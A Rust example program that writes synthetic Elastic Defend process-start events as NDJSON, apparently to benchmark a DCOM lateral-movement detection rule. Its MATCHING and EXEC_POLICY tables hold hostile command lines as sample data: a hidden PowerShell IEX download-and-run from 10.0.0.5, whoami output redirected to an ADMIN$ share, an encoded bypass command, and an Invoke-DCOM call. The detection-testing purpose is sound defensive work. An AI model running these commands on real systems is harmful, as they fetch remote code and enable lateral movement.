//! Deterministic generator of realistic ~2 KB ECS process-start events (Elastic Defend
//! shape) for throughput benchmarks: about 0.1 % match the rule (all three branches), and
//! many are near misses that a naive prefilter would have to parse: parents started by
//! `svchost.exe -k DcomLaunch -p` (8 %), `-ExecutionPolicy` / `-Exec Bypass` command lines
//! (2 %), both at once (0.5 %), Office applications as the started process (0.5 %).
//!
//! `cargo run --release -p dcom-detect-core --example gen_events -- BYTES [SEED] > events.ndjson`
//! (BYTES accepts K, M and G suffixes). The same arguments always give the same file.
use std::io::{BufWriter, Write};

struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[self.below(items.len() as u64) as usize]
    }
    fn hex(&mut self, len: usize) -> String {
        (0..len).map(|_| char::from(b"0123456789abcdef"[self.below(16) as usize])).collect()
    }
}

const HOSTS: &[&str] = &["ws-fin-0042", "ws-hr-0117", "srv-sql-03", "ws-dev-0901", "dc-01", "ws-sales-0233", "jump-02"];
const USERS: &[&str] = &["jdoe", "asmith", "svc_backup", "SYSTEM", "mlopez", "tchen", "adm_kwright"];

/// (parent executable, parent command line, child executable, child command line)
type Process = (&'static str, &'static str, &'static str, &'static str);

const ORDINARY: &[Process] = &[
    (
        r"C:\Windows\explorer.exe",
        r"C:\Windows\Explorer.EXE",
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US --enable-auto-reload"#,
    ),
    (
        r"C:\Windows\System32\services.exe",
        r"C:\Windows\system32\services.exe",
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
    ),
    (
        r"C:\Windows\explorer.exe",
        r"C:\Windows\Explorer.EXE",
        r"C:\Windows\System32\notepad.exe",
        r#""C:\Windows\system32\notepad.exe" C:\Users\jdoe\Desktop\todo.txt"#,
    ),
    (
        r"C:\Windows\System32\cmd.exe",
        r#"cmd.exe /c "build.bat""#,
        r"C:\Program Files\Git\cmd\git.exe",
        r"git fetch --all --prune",
    ),
    (
        r"C:\Program Files\Microsoft VS Code\Code.exe",
        r#""C:\Program Files\Microsoft VS Code\Code.exe""#,
        r"C:\Windows\System32\conhost.exe",
        r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
    ),
    (
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Winmgmt",
        r"C:\Windows\System32\wbem\WmiApSrv.exe",
        r"C:\Windows\system32\wbem\WmiApSrv.exe",
    ),
    (
        r"C:\Windows\System32\taskhostw.exe",
        r"taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}",
        r"C:\Windows\System32\sc.exe",
        r"sc.exe query wuauserv",
    ),
    (
        r"C:\Windows\explorer.exe",
        r"C:\Windows\Explorer.EXE",
        r"C:\Windows\System32\cmd.exe",
        r#""C:\Windows\system32\cmd.exe""#,
    ),
];
const DCOM_LAUNCH: &[Process] = &[
    (
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k DcomLaunch -p",
        r"C:\Windows\System32\wbem\WmiPrvSE.exe",
        r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
    ),
    (
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k DcomLaunch -p",
        r"C:\Windows\System32\RuntimeBroker.exe",
        r"C:\Windows\System32\RuntimeBroker.exe -Embedding",
    ),
    (
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k DcomLaunch -p",
        r"C:\Windows\System32\dllhost.exe",
        r"C:\Windows\system32\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}",
    ),
];
const EXEC_POLICY: &[Process] = &[
    (
        r"C:\Windows\System32\cmd.exe",
        r#"cmd.exe /c "deploy.cmd""#,
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r"powershell.exe -ExecutionPolicy Bypass -File C:\ProgramData\agent\update.ps1",
    ),
    (
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r"powershell.exe -NonI -W Hidden -NoP -Exec Bypass -Enc SQBFAFgA",
    ),
];
const BOTH_HALVES: &[Process] = &[(
    r"C:\Windows\System32\svchost.exe",
    r"C:\Windows\system32\svchost.exe -k DcomLaunch -p",
    r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
    r"powershell.exe -ExecutionPolicy Restricted -Command Get-Date",
)];
const OFFICE_STARTED: &[Process] = &[
    (
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k DcomLaunch -p",
        r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
        r#""C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" /automation -Embedding"#,
    ),
    (
        r"C:\Windows\explorer.exe",
        r"C:\Windows\Explorer.EXE",
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\jdoe\Documents\q3.docx""#,
    ),
];
const MATCHING: &[Process] = &[
    (
        r"C:\Windows\System32\mmc.exe",
        r"C:\Windows\system32\mmc.exe -Embedding",
        r"C:\Windows\System32\cmd.exe",
        r#""C:\Windows\System32\cmd.exe" /Q /c whoami 1> \\127.0.0.1\ADMIN$\__1556656511.61 2>&1"#,
    ),
    (
        r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
        r#""EXCEL.EXE" /automation -Embedding"#,
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r"powershell.exe -nop -w hidden -c IEX(iwr http://10.0.0.5/a)",
    ),
    (
        r"C:\Windows\explorer.exe",
        r"C:\Windows\Explorer.EXE",
        r"C:\Windows\System32\dcomcnfg.exe",
        r#""C:\Windows\system32\dcomcnfg.exe""#,
    ),
    (
        r"C:\Windows\System32\cmd.exe",
        r"cmd.exe",
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r"powershell.exe -ExecutionPolicy Bypass -File Invoke-DCOM.ps1 -ComputerName ws-fin-0042",
    ),
];

fn json_str(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

fn basename(path: &str) -> &str {
    path.rsplit(['\\', '/']).next().unwrap_or(path)
}

fn event(rng: &mut Rng, seq: u64, (pexe, pcl, exe, cl): Process) -> String {
    let host = rng.pick(HOSTS);
    let user = rng.pick(USERS);
    let args: Vec<String> = cl.split(' ').map(json_str).collect();
    let pargs: Vec<String> = pcl.split(' ').map(json_str).collect();
    let (sec, ms) = (seq % 60, rng.below(1000));
    let pid = 1000 + rng.below(60000);
    let ppid = 500 + rng.below(60000);
    format!(
        concat!(
            r#"{{"@timestamp":"2024-05-01T10:{min:02}:{sec:02}.{ms:03}Z","agent":{{"id":"8a4f2b1e-55b0-4c8e-9f8e-{agent}","type":"endpoint","version":"8.13.2"}},"#,
            r#""data_stream":{{"dataset":"endpoint.events.process","namespace":"default","type":"logs"}},"ecs":{{"version":"8.10.0"}},"#,
            r#""event":{{"action":"start","category":["process"],"created":"2024-05-01T10:{min:02}:{sec:02}.{ms:03}Z","dataset":"endpoint.events.process","id":"{id}","kind":"event","module":"endpoint","outcome":"success","sequence":{seq},"type":["start"]}},"#,
            r#""host":{{"architecture":"x86_64","hostname":"{host}","id":"c3b0a1f2-7d4e-4b1a-9c8d-{hostid}","ip":["10.20.{ip1}.{ip2}"],"name":"{host}","os":{{"family":"windows","full":"Windows 10 Enterprise 22H2","kernel":"22H2 (10.0.19045.4291)","name":"Windows","platform":"windows","type":"windows","version":"22H2"}}}},"#,
            r#""message":"Endpoint process event","#,
            r#""process":{{"Ext":{{"ancestry":["{anc1}","{anc2}"],"code_signature":[{{"exists":true,"status":"trusted","subject_name":"Microsoft Windows","trusted":true}}],"token":{{"elevation":false,"integrity_level_name":"medium"}}}},"#,
            r#""args":[{args}],"args_count":{nargs},"command_line":{cl},"entity_id":"{eid}","executable":{exe},"hash":{{"md5":"{md5}","sha1":"{sha1}","sha256":"{sha256}"}},"name":{name},"#,
            r#""parent":{{"args":[{pargs}],"args_count":{npargs},"command_line":{pcl},"entity_id":"{peid}","executable":{pexe},"name":{pname},"pid":{ppid}}},"#,
            r#""pid":{pid},"working_directory":"C:\\Windows\\system32\\"}},"#,
            r#""user":{{"domain":"CORP","id":"S-1-5-21-1004336348-1177238915-682003330-{uid}","name":"{user}"}}}}"#
        ),
        min = (seq / 60) % 60,
        sec = sec,
        ms = ms,
        agent = rng.hex(12),
        id = rng.hex(24),
        seq = seq,
        host = host,
        hostid = rng.hex(12),
        ip1 = rng.below(255),
        ip2 = rng.below(255),
        anc1 = rng.hex(64),
        anc2 = rng.hex(64),
        args = args.join(","),
        nargs = args.len(),
        cl = json_str(cl),
        eid = rng.hex(64),
        exe = json_str(exe),
        md5 = rng.hex(32),
        sha1 = rng.hex(40),
        sha256 = rng.hex(64),
        name = json_str(basename(exe)),
        pargs = pargs.join(","),
        npargs = pargs.len(),
        pcl = json_str(pcl),
        peid = rng.hex(64),
        pexe = json_str(pexe),
        pname = json_str(basename(pexe)),
        ppid = ppid,
        pid = pid,
        uid = 1000 + rng.below(9000),
        user = user,
    )
}

fn parse_bytes(s: &str) -> u64 {
    let (n, mult) = match s.chars().last() {
        Some('K' | 'k') => (&s[..s.len() - 1], 1 << 10),
        Some('M' | 'm') => (&s[..s.len() - 1], 1 << 20),
        Some('G' | 'g') => (&s[..s.len() - 1], 1 << 30),
        _ => (s, 1),
    };
    n.parse::<u64>().expect("BYTES") * mult
}

fn main() {
    let mut args = std::env::args().skip(1);
    let target = parse_bytes(&args.next().expect("usage: gen_events BYTES [SEED]"));
    let seed = args.next().map_or(0x9E37_79B9_7F4A_7C15, |s| s.parse().expect("SEED"));
    let mut rng = Rng(seed | 1);
    let stdout = std::io::stdout();
    let mut out = BufWriter::with_capacity(1 << 20, stdout.lock());
    let (mut written, mut seq) = (0u64, 0u64);
    while written < target {
        let roll = rng.below(10_000);
        let kind = match roll {
            0..=9 => MATCHING,
            10..=59 => OFFICE_STARTED,
            60..=109 => BOTH_HALVES,
            110..=309 => EXEC_POLICY,
            310..=1109 => DCOM_LAUNCH,
            _ => ORDINARY,
        };
        let process = kind[rng.below(kind.len() as u64) as usize];
        let line = event(&mut rng, seq, process);
        out.write_all(line.as_bytes()).expect("stdout");
        out.write_all(b"\n").expect("stdout");
        written += line.len() as u64 + 1;
        seq += 1;
    }
    out.flush().expect("stdout");
    eprintln!("{seq} events, {written} bytes");
}
